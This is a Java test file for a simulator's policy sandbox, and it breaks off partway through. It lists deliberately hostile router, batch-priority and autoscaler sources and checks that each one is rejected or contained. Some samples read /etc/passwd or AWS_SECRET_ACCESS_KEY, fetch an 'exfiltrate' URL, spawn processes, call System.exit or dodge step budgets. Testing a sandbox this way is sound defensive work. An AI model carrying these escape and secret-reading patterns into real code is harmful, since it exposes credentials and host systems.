package dev.glia.policy.sandbox;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.assertj.core.api.Assertions.catchThrowable;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import dev.glia.policy.Autoscaler;
import dev.glia.policy.BatchPriority;
import dev.glia.policy.ReplicaView;
import dev.glia.policy.Router;
import dev.glia.policy.builtin.BuiltinRouters;
import dev.glia.policy.runtime.PolicyFailure;
import dev.glia.sim.Experiment;
import dev.glia.sim.RunWriter;
import dev.glia.sim.engine.ClusterConfig;
import dev.glia.sim.engine.Request;
import dev.glia.sim.engine.Simulation;
import dev.glia.sim.engine.SimulationResult;
import dev.glia.sim.scenario.Scenario;
import dev.glia.sim.scenario.ScenarioLoader;
import dev.glia.sim.scenario.WorkloadFactory;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.concurrent.ConcurrentHashMap;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Untrusted policy source, written to break out of the sandbox, and what becomes of it: either the
 * compiler or the verifier rejects it with a diagnostic naming the offending reference, or it
 * loads and the overrun, exception or impossible decision it makes at run time stops that one
 * simulation with a {@link PolicyFailure} that says what happened — and the host keeps working.
 */
class HostilePolicyTest {
    /** Two small replicas under bursty load (SimulationTest's TIGHT), 30 simulated seconds: ~20 requests. */
    static final String TIGHT = """
            name: tight
            duration: 30
            cluster: {replicas: 2, gpu: a10, model: llama-3-8b, numBlocks: 600, maxNumBatchedTokens: 512, maxModelLen: 4096}
            workload:
              arrivals: {process: lognormal, qps: 4, sigma: 2}
              lengths: {table: sharegpt}
              inflation: {promptFraction: 0.05, outputFraction: 0.05, factor: 10, cap: 2048}
            """;
    /** The same cluster with an autoscaler ticking every 5 s. */
    static final String AUTOSCALING = TIGHT + """
            autoscaling: {interval: 5, coldStart: 5, minReplicas: 1, maxReplicas: 3}
            """;
    static final long SEED = 3;
    /** Smaller than {@link Budget#DEFAULT} so that runaway policies stop sooner; same mechanism. */
    static final Budget BUDGET = new Budget(2_000_000L, 4_000_000L, 1_000_000_000L);

    enum Outcome { REJECTED, CONTAINED }

    enum Role { ROUTER, BATCH_PRIORITY, AUTOSCALER }

    /** Compiled hostile sources, so the host test can run them again without recompiling. */
    private static final Map<String, PolicySource> COMPILED = new ConcurrentHashMap<>();

    // ---- building policies ------------------------------------------------------------------------

    /** A router class named Hostile whose body is {@code members}. */
    static String router(String members) {
        return policy("Router", members);
    }

    static String batchPriority(String members) {
        return policy("BatchPriority", members);
    }

    static String autoscaler(String members) {
        return policy("Autoscaler", members);
    }

    static String policy(String api, String members) {
        return "import dev.glia.policy.*;\nimport java.util.*;\n\npublic class Hostile implements " + api + " {\n"
                + members.indent(4) + "}\n";
    }

    /** Sends every queued request to the first replica (the decision part of a well-behaved router). */
    static final String SEND_ALL = "for (RequestView r : c.queue()) { d.send(r, c.replicas().get(0)); }";

    static Arguments rejected(String spec, String reason, String source) {
        return Arguments.of(spec, Outcome.REJECTED, reason, Role.ROUTER, source);
    }

    static Arguments contained(String spec, String reason, String source) {
        return contained(spec, reason, Role.ROUTER, source);
    }

    static Arguments contained(String spec, String reason, Role role, String source) {
        return Arguments.of(spec, Outcome.CONTAINED, reason, role, source);
    }

    // ---- the table --------------------------------------------------------------------------------

    static Stream<Arguments> hostilePolicies() {
        return Stream.of(
                // -- files, network, reflection ---------------------------------------------------
                rejected("reads a file with java.io.FileInputStream", "java.io.FileInputStream", router("""
                        public void route(ClusterView c, Dispatch d) {
                            try {
                                int b = new java.io.FileInputStream("/etc/passwd").read();
                            } catch (Exception e) {
                            }
                        }""")),
                rejected("reads a file with java.nio.file.Files", "java.nio.file.Files", router("""
                        public void route(ClusterView c, Dispatch d) {
                            try {
                                String secret = java.nio.file.Files.readString(java.nio.file.Path.of("/etc/hostname"));
                            } catch (Exception e) {
                            }
                        }""")),
                rejected("opens a java.net.Socket", "java.net.Socket", router("""
                        public void route(ClusterView c, Dispatch d) {
                            try {
                                new java.net.Socket("example.com", 80).close();
                            } catch (Exception e) {
                            }
                        }""")),
                rejected("fetches a java.net.URL", "java.net.URL", router("""
                        public void route(ClusterView c, Dispatch d) {
                            try {
                                new java.net.URL("http://example.com/exfiltrate").openStream();
                            } catch (Exception e) {
                            }
                        }""")),
                rejected("lists its fields by reflection with getClass().getDeclaredFields()",
                        "java.lang.Class.getDeclaredFields", router("""
                        public void route(ClusterView c, Dispatch d) {
                            int fields = getClass().getDeclaredFields().length;
                        }""")),
                rejected("loads a simulator class with Class.forName", "java.lang.Class.forName", router("""
                        public void route(ClusterView c, Dispatch d) {
                            try {
                                Class.forName("dev.glia.sim.engine.Simulation");
                            } catch (Exception e) {
                            }
                        }""")),
                rejected("takes a class literal String.class", "class literal java.lang.String.class", router("""
                        public void route(ClusterView c, Dispatch d) {
                            Object type = String.class;
                        }""")),
                rejected("looks up method handles", "java.lang.invoke.MethodHandles", router("""
                        public void route(ClusterView c, Dispatch d) {
                            Object lookup = java.lang.invoke.MethodHandles.lookup();
                        }""")),
                rejected("reaches for sun.misc.Unsafe", "sun.misc.Unsafe", router("""
                        public void route(ClusterView c, Dispatch d) {
                            Object unsafe = (sun.misc.Unsafe) null;
                        }""")),
                // -- threads and concurrency ----------------------------------------------------------
                rejected("starts a new Thread", "java.lang.Thread", router("""
                        public void route(ClusterView c, Dispatch d) {
                            new Thread(() -> { }).start();
                        }""")),
                rejected("sleeps with Thread.sleep", "java.lang.Thread.sleep", router("""
                        public void route(ClusterView c, Dispatch d) {
                            try {
                                Thread.sleep(1000);
                            } catch (Exception e) {
                            }
                        }""")),
                rejected("submits work to an ExecutorService", "java.util.concurrent.Executors", router("""
                        public void route(ClusterView c, Dispatch d) {
                            java.util.concurrent.ExecutorService pool = java.util.concurrent.Executors.newFixedThreadPool(2);
                            pool.submit(() -> { });
                        }""")),
                rejected("runs a CompletableFuture asynchronously", "java.util.concurrent.CompletableFuture", router("""
                        public void route(ClusterView c, Dispatch d) {
                            java.util.concurrent.CompletableFuture.runAsync(() -> { });
                        }""")),
                rejected("routes in a parallelStream()", "parallelStream", router("""
                        public void route(ClusterView c, Dispatch d) {
                            c.queue().parallelStream().forEach(r -> d.send(r, c.replicas().get(0)));
                        }""")),
                rejected("turns a stream parallel with .parallel()", "java.util.stream.Stream.parallel", router("""
                        public void route(ClusterView c, Dispatch d) {
                            long n = c.queue().stream().parallel().count();
                        }""")),
                rejected("sorts with Arrays.parallelSort", "java.util.Arrays.parallelSort", router("""
                        public void route(ClusterView c, Dispatch d) {
                            Arrays.parallelSort(new long[] {3, 1, 2});
                        }""")),
                rejected("locks in a synchronized block", "synchronized block", router("""
                        public void route(ClusterView c, Dispatch d) {
                            synchronized (this) {
                                for (RequestView r : c.queue()) { d.send(r, c.replicas().get(0)); }
                            }
                        }""")),
                rejected("declares a synchronized method", "synchronized method route", router("""
                        public synchronized void route(ClusterView c, Dispatch d) {
                        }""")),
                rejected("waits on a monitor with Object.wait", "java.lang.Object.wait", router("""
                        public void route(ClusterView c, Dispatch d) {
                            try {
                                wait(10);
                            } catch (Exception e) {
                            }
                        }""")),
                // -- the JVM and the operating system ------------------------------------------------
                rejected("calls System.exit", "java.lang.System.exit", router("""
                        public void route(ClusterView c, Dispatch d) {
                            System.exit(1);
                        }""")),
                rejected("hides System::exit in a method reference inside a lambda", "java.lang.System.exit", router("""
                        public void route(ClusterView c, Dispatch d) {
                            java.util.function.IntConsumer quit = System::exit;
                            c.queue().forEach(r -> quit.accept(r.promptTokens()));
                        }""")),
                rejected("runs a process with Runtime.getRuntime().exec", "java.lang.Runtime.getRuntime", router("""
                        public void route(ClusterView c, Dispatch d) {
                            try {
                                Runtime.getRuntime().exec("touch /tmp/glia-pwned");
                            } catch (Exception e) {
                            }
                        }""")),
                rejected("starts a ProcessBuilder", "java.lang.ProcessBuilder", router("""
                        public void route(ClusterView c, Dispatch d) {
                            try {
                                new ProcessBuilder("touch", "/tmp/glia-pwned").start();
                            } catch (Exception e) {
                            }
                        }""")),
                rejected("reads the environment with System.getenv", "java.lang.System.getenv", router("""
                        public void route(ClusterView c, Dispatch d) {
                            String token = System.getenv("AWS_SECRET_ACCESS_KEY");
                        }""")),
                rejected("reads a system property with System.getProperty", "java.lang.System.getProperty", router("""
                        public void route(ClusterView c, Dispatch d) {
                            String home = System.getProperty("user.home");
                        }""")),
                rejected("reads a system property through Integer.getInteger", "java.lang.Integer.getInteger", router("""
                        public void route(ClusterView c, Dispatch d) {
                            Integer knob = Integer.getInteger("glia.knob", 3);
                        }""")),
                rejected("declares a native method", "native method peek", router("""
                        native long peek(long address);

                        public void route(ClusterView c, Dispatch d) {
                        }""")),
                rejected("declares a finalize() method", "method finalize()", router("""
                        @Override
                        protected void finalize() {
                            while (true) { }
                        }

                        public void route(ClusterView c, Dispatch d) {
                        }""")),
                // -- determinism ----------------------------------------------------------------------
                rejected("reads the clock with System.nanoTime", "java.lang.System.nanoTime", router("""
                        public void route(ClusterView c, Dispatch d) {
                            if (System.nanoTime() % 2 == 0) { for (RequestView r : c.queue()) { d.send(r, c.replicas().get(0)); } }
                        }""")),
                rejected("reads the clock with System.currentTimeMillis", "java.lang.System.currentTimeMillis", router("""
                        public void route(ClusterView c, Dispatch d) {
                            long now = System.currentTimeMillis();
                        }""")),
                rejected("reads the clock with java.time.Instant.now", "java.time.Instant.now", router("""
                        public void route(ClusterView c, Dispatch d) {
                            Object now = java.time.Instant.now();
                        }""")),
                rejected("draws unseeded randomness from Math.random", "java.lang.Math.random", router("""
                        public void route(ClusterView c, Dispatch d) {
                            int i = (int) (Math.random() * c.replicas().size());
                            for (RequestView r : c.queue()) { d.send(r, c.replicas().get(i)); }
                        }""")),
                rejected("draws unseeded randomness from new java.util.Random()", "java.util.Random", router("""
                        public void route(ClusterView c, Dispatch d) {
                            int i = new java.util.Random().nextInt(c.replicas().size());
                        }""")),
                rejected("draws unseeded randomness from ThreadLocalRandom", "java.util.concurrent.ThreadLocalRandom", router("""
                        public void route(ClusterView c, Dispatch d) {
                            int i = java.util.concurrent.ThreadLocalRandom.current().nextInt(2);
                        }""")),
                rejected("draws unseeded randomness from RandomGenerator.getDefault()",
                        "java.util.random.RandomGenerator.getDefault", router("""
                        public void route(ClusterView c, Dispatch d) {
                            int i = java.util.random.RandomGenerator.getDefault().nextInt(2);
                        }""")),
                rejected("keeps a mutable static int counter", "static field counter", router("""
                        static int counter;

                        public void route(ClusterView c, Dispatch d) {
                            counter++;
                        }""")),
                rejected("keeps a static final List that it mutates", "static field SEEN", router("""
                        static final List<Long> SEEN = new ArrayList<>();

                        public void route(ClusterView c, Dispatch d) {
                            for (RequestView r : c.queue()) { SEEN.add(r.id()); }
                        }""")),
                // -- swallowing budget errors --------------------------------------------------------
                rejected("catches Throwable to swallow budget errors", "catches java.lang.Throwable", router("""
                        public void route(ClusterView c, Dispatch d) {
                            try {
                                while (true) { }
                            } catch (Throwable t) {
                            }
                        }""")),
                rejected("catches StackOverflowError to survive deep recursion", "catches java.lang.StackOverflowError", router("""
                        int depth(int n) {
                            return depth(n + 1) + 1;
                        }

                        public void route(ClusterView c, Dispatch d) {
                            try {
                                depth(0);
                            } catch (StackOverflowError e) {
                            }
                        }""")),
                rejected("catches Error to swallow budget errors", "catches java.lang.Error", router("""
                        public void route(ClusterView c, Dispatch d) {
                            try {
                                while (true) { }
                            } catch (Error e) {
                            }
                        }""")),
                rejected("extends Error to catch budget errors through its own type", "extends java.lang.Error", """
                        import dev.glia.policy.*;

                        public class Hostile implements Router {
                            public void route(ClusterView c, Dispatch d) {
                                try {
                                    while (true) { }
                                } catch (Trap e) {
                                }
                            }
                        }

                        class Trap extends Error {
                        }
                        """),
                // -- reaching into the simulator ------------------------------------------------------
                rejected("casts a RequestView to dev.glia.sim.engine.Request to read the hidden output length",
                        "dev.glia.sim.engine", router("""
                        public void route(ClusterView c, Dispatch d) {
                            for (RequestView r : c.queue()) {
                                int secret = ((dev.glia.sim.engine.Request) r).outputTokens();
                                d.send(r, c.replicas().get(secret % 2));
                            }
                        }""")),
                rejected("allocates a multi-dimensional array new int[10][10]", "multi-dimensional array int[][]", router("""
                        public void route(ClusterView c, Dispatch d) {
                            int[][] grid = new int[10][10];
                        }""")),
                rejected("extends Thread", "extends java.lang.Thread", """
                        import dev.glia.policy.*;

                        public class Hostile extends Thread implements Router {
                            public void route(ClusterView c, Dispatch d) {
                            }
                        }
                        """),
                rejected("is not a policy at all", "declare one public class implementing dev.glia.policy.Router", """
                        import java.util.*;

                        public class Hostile {
                            public List<String> notes = new ArrayList<>();
                        }
                        """),
                rejected("declares two public policy classes in one file", "class Second is public", """
                        import dev.glia.policy.*;

                        public class Hostile implements Router {
                            public void route(ClusterView c, Dispatch d) {
                            }
                        }

                        public class Second implements Router {
                            public void route(ClusterView c, Dispatch d) {
                            }
                        }
                        """),

                // -- contained at run time: budgets -----------------------------------------------------
                contained("loops forever with while (true) {}", "step budget exceeded", router("""
                        public void route(ClusterView c, Dispatch d) {
                            while (true) { }
                        }""")),
                contained("counts to ten billion", "step budget exceeded", router("""
                        public void route(ClusterView c, Dispatch d) {
                            long sum = 0;
                            for (long i = 0; i < 10_000_000_000L; i++) { sum += i; }
                            if (sum == 42) { d.send(c.queue().get(0), c.replicas().get(0)); }
                        }""")),
                contained("recurses without end", "recursed too deeply", router("""
                        int depth(int n) {
                            return depth(n + 1) + 1;
                        }

                        public void route(ClusterView c, Dispatch d) {
                            depth(0);
                        }""")),
                contained("allocates new long[Integer.MAX_VALUE - 8]", "allocation budget exceeded", router("""
                        public void route(ClusterView c, Dispatch d) {
                            long[] huge = new long[Integer.MAX_VALUE - 8];
                            huge[0] = 1;
                        }""")),
                contained("allocates 1M-element arrays in a loop and keeps them", "allocation budget exceeded", router("""
                        final List<long[]> hoard = new ArrayList<>();

                        public void route(ClusterView c, Dispatch d) {
                            for (int i = 0; i < 10_000; i++) { hoard.add(new long[1_000_000]); }
                        }""")),
                contained("catches RuntimeException around an infinite loop", "step budget exceeded", router("""
                        public void route(ClusterView c, Dispatch d) {
                            try {
                                while (true) { }
                            } catch (RuntimeException e) {
                                for (RequestView r : c.queue()) { d.send(r, c.replicas().get(0)); }
                            }
                        }""")),
                contained("catches Exception and loops again in the handler", "step budget exceeded", router("""
                        public void route(ClusterView c, Dispatch d) {
                            while (true) {
                                try {
                                    while (true) { }
                                } catch (Exception e) {
                                    continue;
                                }
                            }
                        }""")),
                contained("hides an overrun with try { while (true) {} } finally { return; }", "step budget exceeded", router("""
                        public void route(ClusterView c, Dispatch d) {
                            try {
                                while (true) { }
                            } finally {
                                return;
                            }
                        }""")),
                contained("routes in the finally that hides its overrun", "step budget exceeded", router("""
                        public void route(ClusterView c, Dispatch d) {
                            try {
                                while (true) { }
                            } finally {
                                for (RequestView r : c.queue()) { d.send(r, c.replicas().get(0)); }
                                return;
                            }
                        }""")),
                contained("keeps looping in finally after its overrun", "step budget exceeded", router("""
                        public void route(ClusterView c, Dispatch d) {
                            long n = 0;
                            try {
                                while (true) { n++; }
                            } finally {
                                while (true) { n--; }
                            }
                        }""")),
                contained("loops forever in priority()", "step budget exceeded", Role.BATCH_PRIORITY, batchPriority("""
                        public int priority(RequestView r, ClusterView c) {
                            while (true) { }
                        }""")),
                contained("loops forever in desiredReplicas()", "step budget exceeded", Role.AUTOSCALER, autoscaler("""
                        public int desiredReplicas(AutoscalerView v) {
                            int n = 1;
                            while (n > 0) { n = n | 1; }
                            return n;
                        }""")),
                // -- contained at run time: exceptions ------------------------------------------------------
                contained("divides by zero in route()", "ArithmeticException: / by zero", router("""
                        int zero;

                        public void route(ClusterView c, Dispatch d) {
                            int k = c.queue().size() / zero;
                        }""")),
                contained("throws from priority()", "IllegalStateException: no priority for you", Role.BATCH_PRIORITY,
                        batchPriority("""
                        public int priority(RequestView r, ClusterView c) {
                            throw new IllegalStateException("no priority for you");
                        }""")),
                contained("throws from desiredReplicas()", "IndexOutOfBoundsException", Role.AUTOSCALER, autoscaler("""
                        public int desiredReplicas(AutoscalerView v) {
                            return v.replicas().get(99).id();
                        }""")),
                contained("clears the global queue it is shown", "UnsupportedOperationException", router("""
                        public void route(ClusterView c, Dispatch d) {
                            c.queue().clear();
                        }""")),
                contained("removes a replica from the cluster view", "UnsupportedOperationException", router("""
                        public void route(ClusterView c, Dispatch d) {
                            c.replicas().remove(0);
                        }""")),
                contained("empties a replica's running list", "UnsupportedOperationException", router("""
                        public void route(ClusterView c, Dispatch d) {
                            for (ReplicaView replica : c.replicas()) { replica.running().clear(); }
                            for (RequestView r : c.queue()) { d.send(r, c.replicas().get(0)); }
                        }""")),
                // -- contained at run time: impossible decisions ----------------------------------------------
                contained("sends a request twice in one call", "twice", router("""
                        public void route(ClusterView c, Dispatch d) {
                            for (RequestView r : c.queue()) {
                                d.send(r, c.replicas().get(0));
                                d.send(r, c.replicas().get(1));
                            }
                        }""")),
                contained("sends to a ReplicaView it implemented itself", "unknown replica", router("""
                        public void route(ClusterView c, Dispatch d) {
                            for (RequestView r : c.queue()) { d.send(r, new Phantom()); }
                        }

                        static final class Phantom implements ReplicaView {
                            public int id() { return 0; }
                            public int numWaiting() { return 0; }
                            public int numRunning() { return 0; }
                            public List<? extends RequestView> waiting() { return List.of(); }
                            public List<? extends RequestView> running() { return List.of(); }
                            public int allocatedBlocks() { return 0; }
                            public int totalBlocks() { return 1_000_000; }
                            public int blockSize() { return 16; }
                            public boolean accepting() { return true; }
                        }""")),
                contained("sends a RequestView it implemented itself", "not one of this cluster's", router("""
                        public void route(ClusterView c, Dispatch d) {
                            d.send(new Forged(), c.replicas().get(0));
                        }

                        static final class Forged implements RequestView {
                            public long id() { return 0; }
                            public double arrivalTime() { return 0; }
                            public int promptTokens() { return 1; }
                            public int generatedTokens() { return 0; }
                            public int priority() { return 0; }
                        }""")),
                contained("sends a request remembered from an earlier call", "not in the global queue", router("""
                        RequestView remembered;

                        public void route(ClusterView c, Dispatch d) {
                            if (remembered != null) { d.send(remembered, c.replicas().get(0)); }
                            for (RequestView r : c.queue()) {
                                d.send(r, c.replicas().get(0));
                                remembered = r;
                            }
                        }""")),
                contained("asks the autoscaler for -1 replicas", "negative", Role.AUTOSCALER, autoscaler("""
                        public int desiredReplicas(AutoscalerView v) {
                            return -1;
                        }""")));
    }

    @ParameterizedTest(name = "a policy that {0} is {1}: {2}")
    @MethodSource("hostilePolicies")
    void aHostilePolicyIsRejectedOrContainedWithTheReason(String spec, Outcome outcome, String reason, Role role,
                                                          String source) {
        if (outcome == Outcome.REJECTED) {
            PolicyRejected rejected = rejection(() -> PolicySource.compile("Hostile.java", source, BUDGET));
            assertThat(rejected.diagnostics())
                    .as("diagnostics of a policy that %s", spec)
                    .isNotEmpty()
                    .anySatisfy(d -> assertThat(d.message()).contains(reason))
                    .allSatisfy(d -> assertThat(d.file()).isEqualTo("Hostile.java"));
        } else {
            PolicySource policy = compiled(source);
            assertThat(policy.kind().name()).isEqualTo(role.name());
            assertThat(catchThrowable(() -> simulate(policy)))
                    .as("running a policy that %s", spec)
                    .isInstanceOf(PolicyFailure.class)
                    .hasMessageContaining(component(role) + " failed at t=")
                    .hasMessageContaining(reason);
        }
    }

    static Stream<Arguments> hostileConstructors() {
        return Stream.of(
                Arguments.of("throws from its constructor", "refusing to start", router("""
                        public Hostile() {
                            throw new IllegalStateException("refusing to start");
                        }

                        public void route(ClusterView c, Dispatch d) {
                        }""")),
                Arguments.of("loops forever in its constructor", "step budget exceeded", router("""
                        public Hostile() {
                            while (true) { }
                        }

                        public void route(ClusterView c, Dispatch d) {
                        }""")),
                Arguments.of("allocates without bound in a field initializer", "allocation budget exceeded", router("""
                        final long[] huge = new long[Integer.MAX_VALUE - 8];

                        public void route(ClusterView c, Dispatch d) {
                        }""")));
    }

    @ParameterizedTest(name = "a policy that {0} fails at construction, saying so: {1}")
    @MethodSource("hostileConstructors")
    void aPolicyWhoseConstructorFailsIsStoppedSayingTheConstructorFailed(String spec, String reason, String source) {
        Throwable thrown = catchThrowable(() -> simulate(PolicySource.compile("Hostile.java", source, BUDGET)));
        assertThat(thrown).isInstanceOfAny(PolicyRejected.class, PolicyFailure.class)
                .hasMessageContaining("constructed")
                .hasMessageContaining(reason);
    }

    // ---- rejections that need more than a message --------------------------------------------------

    @Test
    void aPolicyThatDoesNotCompileIsRejectedWithTheLineAndColumnOfTheError() {
        String source = """
                import dev.glia.policy.*;

                public class Broken implements Router {
                    public void route(ClusterView c, Dispatch d) {
                        int replica = "the first one";
                        d.send(c.queue().get(0), c.replicas().get(replica));
                    }
                }
                """;
        PolicyRejected rejected = rejection(() -> PolicySource.compile("whatever.java", source, BUDGET));
        assertThat(rejected).hasMessageContaining("Broken.java does not compile");
        Diagnostic error = rejected.diagnostics().get(0);
        assertThat(error.file()).isEqualTo("Broken.java");
        assertThat(error.kind()).isEqualTo("error");
        assertThat(error.line()).isEqualTo(5);
        assertThat(error.column()).isEqualTo(source.lines().toList().get(4).indexOf("\"the first one\"") + 1);
        assertThat(error.message()).contains("incompatible types");
        assertThat(error.toString()).startsWith("Broken.java:5:" + error.column() + ": error: ");
    }

    @Test
    void aPolicyThatAsksForARequestsRestartsDoesNotCompileBecauseNoRouterCanKnowThem() {
        String source = """
                import dev.glia.policy.*;

                public class Restarts implements Router {
                    public void route(ClusterView c, Dispatch d) {
                        if (c.queue().get(0).restarts() == 0) {
                            d.send(c.queue().get(0), c.replicas().get(0));
                        }
                    }
                }
                """;
        PolicyRejected rejected = rejection(() -> PolicySource.compile("Restarts.java", source, BUDGET));
        assertThat(rejected).hasMessageContaining("Restarts.java does not compile");
        Diagnostic error = rejected.diagnostics().get(0);
        assertThat(error.line()).isEqualTo(5);
        assertThat(error.message()).contains("cannot find symbol").contains("restarts()");
    }

    @Test
    void everyViolationInAPolicyIsReportedAtOnceWithItsLine() {
        String source = router("""
                static int calls;

                public void route(ClusterView c, Dispatch d) {
                    calls++;
                    long t = System.nanoTime();
                    new Thread(() -> { }).start();
                }""");
        PolicyRejected rejected = rejection(() -> PolicySource.compile("Hostile.java", source, BUDGET));
        assertThat(rejected.diagnostics()).extracting(Diagnostic::kind).containsOnly("sandbox");
        assertThat(rejected.diagnostics()).extracting(Diagnostic::message)
                .anySatisfy(m -> assertThat(m).contains("static field calls"))
                .anySatisfy(m -> assertThat(m).contains("java.lang.System.nanoTime"))
                .anySatisfy(m -> assertThat(m).contains("java.lang.Thread"));
        int nanoTimeLine = source.lines().toList().indexOf("        long t = System.nanoTime();") + 1;
        assertThat(rejected.diagnostics())
                .anySatisfy(d -> {
                    assertThat(d.message()).contains("System.nanoTime");
                    assertThat(d.line()).isEqualTo(nanoTimeLine);
                });
    }

    // ---- contained at run time: deadline -------------------------------------------------------------

    @Test
    void aPolicyWithStepsToSpareIsStillStoppedByThePerCallDeadline() {
        Budget generousStepsShortDeadline = new Budget(Long.MAX_VALUE / 2, 4_000_000L, 30_000_000L);
        PolicySource spinner = PolicySource.compile("Hostile.java", router("""
                public void route(ClusterView c, Dispatch d) {
                    while (true) { }
                }"""), generousStepsShortDeadline);
        assertThat(catchThrowable(() -> simulate(spinner)))
                .isInstanceOf(PolicyFailure.class)
                .hasMessageContaining("router failed at t=")
                .hasMessageContaining("per-call deadline exceeded");
    }

    // ---- what policies may do --------------------------------------------------------------------------

    @Test
    void instanceStateIsAllowedSoARoundRobinCounterWorksAndTheRunCompletes() {
        PolicySource roundRobin = PolicySource.compile("Hostile.java", router("""
                private int next;

                public void route(ClusterView c, Dispatch d) {
                    List<? extends ReplicaView> replicas = c.replicas();
                    for (RequestView r : c.queue()) {
                        d.send(r, replicas.get(next++ % replicas.size()));
                    }
                }"""), BUDGET);
        SimulationResult result = simulate(roundRobin);
        assertThat(result.requests()).isNotEmpty().allMatch(r -> r.state() == Request.State.DONE);
        Set<Integer> used = new HashSet<>();
        result.requests().forEach(r -> used.add(r.replicaId()));
        assertThat(used).containsExactlyInAnyOrder(0, 1);
        // every arrival alternates: request i went to replica i % 2
        assertThat(result.requests()).allMatch(r -> r.replicaId() == r.index() % 2);
    }

    @Test
    void staticFinalPrimitiveAndStringConstantsAreAllowed() {
        PolicySource constants = PolicySource.compile("Hostile.java", router("""
                static final int FIRST = 0;
                static final double HEADROOM = 0.25;
                static final long BIG = 1L << 40;
                static final boolean SPREAD = true;
                static final String NAME = "constant-" + FIRST;
                static final double SQRT2 = Math.sqrt(2); // computed once, in the static initializer

                public void route(ClusterView c, Dispatch d) {
                    if (NAME.isEmpty() || BIG < 0 || SQRT2 < 1) {
                        return;
                    }
                    for (RequestView r : c.queue()) {
                        ReplicaView best = c.replicas().get(FIRST);
                        for (ReplicaView replica : c.replicas()) {
                            if (SPREAD && replica.kvUsage() + HEADROOM < best.kvUsage() + HEADROOM) {
                                best = replica;
                            }
                        }
                        d.send(r, best);
                    }
                }"""), BUDGET);
        assertThat(simulate(constants).requests()).isNotEmpty().allMatch(r -> r.state() == Request.State.DONE);
    }

    @Test
    void aWellBehavedPolicyUsingRecordsLambdasStreamsConcatenationAndCollectionsRunsToCompletion() {
        PolicySource tidy = PolicySource.compile("Tidy.java", """
                import dev.glia.policy.*;
                import java.util.*;
                import java.util.function.ToDoubleFunction;
                import java.util.stream.Collectors;

                /** Least projected load, with a per-replica history kept in collections. */
                public final class Tidy implements Router {
                    record Score(ReplicaView replica, double load) implements Comparable<Score> {
                        public int compareTo(Score o) {
                            return Double.compare(load, o.load);
                        }
                    }

                    private final Map<Integer, Deque<Long>> history = new LinkedHashMap<>();
                    private final List<String> notes = new ArrayList<>();
                    private final ToDoubleFunction<ReplicaView> load = r -> r.outstanding() + 2.0 * r.kvUsage();

                    @Override
                    public void route(ClusterView cluster, Dispatch dispatch) {
                        List<RequestView> queue = cluster.queue().stream()
                                .sorted(Comparator.comparingDouble(RequestView::arrivalTime).thenComparingLong(RequestView::id))
                                .collect(Collectors.toList());
                        Map<Integer, Integer> added = new TreeMap<>();
                        for (RequestView request : queue) {
                            Optional<Score> best = cluster.replicas().stream()
                                    .filter(ReplicaView::accepting)
                                    .map(r -> new Score(r, load.applyAsDouble(r) + added.getOrDefault(r.id(), 0)))
                                    .min(Comparator.naturalOrder());
                            if (best.isEmpty()) {
                                return;
                            }
                            ReplicaView target = best.get().replica();
                            dispatch.send(request, target);
                            added.merge(target.id(), 1, Integer::sum);
                            history.computeIfAbsent(target.id(), k -> new ArrayDeque<>()).addLast(request.id());
                            notes.add("sent " + request.id() + " to " + target.id() + " at " + cluster.now());
                            if (notes.size() > 100) {
                                notes.subList(0, 50).clear();
                            }
                        }
                        String summary = history.entrySet().stream()
                                .map(e -> e.getKey() + "=" + e.getValue().size())
                                .collect(Collectors.joining(", ", "[", "]"));
                        if (summary.isEmpty()) {
                            throw new IllegalStateException("unreachable");
                        }
                    }
                }
                """, Budget.DEFAULT);
        SimulationResult result = simulate(tidy);
        assertThat(result.requests()).isNotEmpty().allMatch(r -> r.state() == Request.State.DONE);
    }

    // ---- the host after all of this ------------------------------------------------------------------

    @Test
    void theHostKeepsWorkingAfterAllHostilePolicies() {
        Scenario s = scenario(TIGHT);
        ClusterConfig config = Experiment.engineConfig(s);
        String before = llqMetrics(s, config);

        List<String> notContained = new ArrayList<>();
        hostilePolicies().map(Arguments::get)
                .filter(a -> a[1] == Outcome.CONTAINED)
                .forEach(a -> {
                    Throwable t = catchThrowable(() -> simulate(compiled((String) a[4])));
                    if (!(t instanceof PolicyFailure)) {
                        notContained.add(a[0] + ": " + t);
                    }
                });
        hostileConstructors().map(Arguments::get).forEach(a -> {
            Throwable t = catchThrowable(() -> simulate(PolicySource.compile("Hostile.java", (String) a[2], BUDGET)));
            if (!(t instanceof PolicyRejected) && !(t instanceof PolicyFailure)) {
                notContained.add(a[0] + ": " + t);
            }
        });
        assertThat(notContained).isEmpty();

        String after = llqMetrics(s, config);
        assertThat(after).isEqualTo(before);
        SimulationResult llq = run(s, config, BuiltinRouters.create("llq"), null, null);
        assertThat(llq.requests()).isNotEmpty().allMatch(r -> r.state() == Request.State.DONE);

        PolicySource headroom = PolicySource.read(Path.of("simulator/policies/HeadroomRouter.java"));
        SimulationResult hra = run(s, config, headroom.newRouter(headroom.defaults()), null, null);
        assertThat(hra.requests()).hasSameSizeAs(llq.requests()).allMatch(r -> r.state() == Request.State.DONE);
    }

    // ---- holes: hostile policies the sandbox does not (yet) reject or contain ------------------------

    @Test
    void aPolicyCannotImpersonateTheGaugeToSwitchItsBudgetOff() {
        String source = """
                package dev.glia.policy.sandbox;

                import dev.glia.policy.*;

                public class Hostile implements Router {
                    public void route(ClusterView c, Dispatch d) {
                        Gauge.reset(Long.MAX_VALUE, Long.MAX_VALUE, Long.MAX_VALUE);
                        long sum = 0;
                        for (long i = 0; i < 20_000_000L; i++) { sum += i; } // 10x the step budget
                        for (RequestView r : c.queue()) { d.send(r, c.replicas().get((int) (sum & 1))); }
                    }
                }

                final class Gauge {
                    static void reset(long steps, long cells, long deadline) {
                    }
                }
                """;
        assertThat(outcome(source, BUDGET)).as("what a policy that reset its own gauge threw").satisfiesAnyOf(
                t -> assertThat(t).isInstanceOf(PolicyRejected.class),
                t -> assertThat(t).isInstanceOf(PolicyFailure.class).hasMessageContaining("step budget exceeded"));
    }

    static Stream<Arguments> exceptionsWithHostileMethods() {
        return Stream.of(
                Arguments.of("throws an exception whose getMessage() loops forever", router("""
                        public void route(ClusterView c, Dispatch d) {
                            throw new RuntimeException() {
                                @Override
